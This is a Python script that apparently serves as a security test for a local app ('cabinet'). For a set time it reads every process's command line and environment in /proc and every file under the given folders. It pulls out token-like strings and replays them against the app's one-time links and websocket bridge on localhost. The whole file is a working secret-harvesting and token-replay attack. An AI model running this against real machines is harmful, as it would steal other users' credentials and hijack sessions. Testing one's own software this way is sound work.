#!/usr/bin/env python3
"""What a local attacker with any foothold does to a cabinet: reads every process's command line and
environment it can, and every file it can open below the folders given, over and over, picks out
everything that looks like a secret, and tries each one on the host's one-time links (/open/TOKEN) and on
its bridge (/bridge?key=TOKEN, with the stage's own Host and Origin). Prints one JSON line at the end:
what it read, how many tokens it tried, and every attempt the host accepted.
Usage: token_harvest.py PORT SECONDS FOLDER..."""
import json
import os
import re
import socket
import sys
import time

port, seconds, roots = int(sys.argv[1]), float(sys.argv[2]), sys.argv[3:]
candidates = re.compile(rb"/open/([A-Za-z0-9_-]{8,})|key=([A-Za-z0-9_-]{8,})|\b([0-9a-fA-F]{32,})\b")
file_urls = re.compile(rb"file://(/[^\s\"'\x00]+)")
tried, accepted = set(), []
stats = {"processes": 0, "files": 0, "refused_files": 0}


def exchange(request):
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as conn:
            conn.sendall(request)
            return conn.recv(512).split(b"\r\n", 1)[0].decode("latin1")
    except OSError as error:
        return "no answer: %s" % error


def attack(token):
    if token in tried:
        return
    tried.add(token)
    host = "127.0.0.1:%d" % port
    link = exchange(b"GET /open/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (token, host.encode()))
    if " 303 " in link or " 200 " in link:
        accepted.append({"token": token.decode(), "as": "one-time link", "answer": link})
    bridge = exchange(
        b"GET /bridge?key=%s HTTP/1.1\r\nHost: %s\r\nOrigin: http://%s\r\nUpgrade: websocket\r\n"
        b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        % (token, host.encode(), host.encode())
    )
    if " 101 " in bridge:
        accepted.append({"token": token.decode(), "as": "stage key", "answer": bridge})


def harvest(data):
    for match in candidates.finditer(data):
        attack(next(group for group in match.groups() if group))
    for match in file_urls.finditer(data):
        read_file(match.group(1).decode("latin1"))


def read_file(path):
    try:
        with open(path, "rb") as f:
            data = f.read(1 << 20)
    except OSError:
        stats["refused_files"] += 1
        return
    stats["files"] += 1
    harvest(data)


end = time.monotonic() + seconds
while time.monotonic() < end:
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for part in ("cmdline", "environ"):
            try:
                with open("/proc/%s/%s" % (pid, part), "rb") as f:
                    harvest(f.read())
                stats["processes"] += 1
            except OSError:
                pass
    for root in roots:
        for folder, _, names in os.walk(root):
            for name in names:
                read_file(os.path.join(folder, name))
    time.sleep(0.05)
stats["tokens_tried"] = len(tried)
stats["accepted"] = accepted
print(json.dumps(stats), flush=True)
